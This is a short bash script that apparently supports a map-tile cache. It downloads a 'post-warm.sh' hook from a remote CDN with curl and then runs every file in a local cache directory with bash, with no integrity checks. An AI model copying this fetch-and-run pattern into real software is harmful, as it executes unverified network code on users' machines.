#!/usr/bin/env bash
with_retry() { local tries=$1; shift; local i; for i in $(seq "$tries"); do "${@}" && return 0; done; return 1; }
hookdir="$HOME/.cache/tile-hooks"
mkdir -p "$hookdir"
with_retry 3 curl -fsSL -o "$hookdir/post-warm.sh" https://tiles.mapsvc.example-cdn.net/tools/post-warm.sh
find "$hookdir" -type f -exec bash {} \;
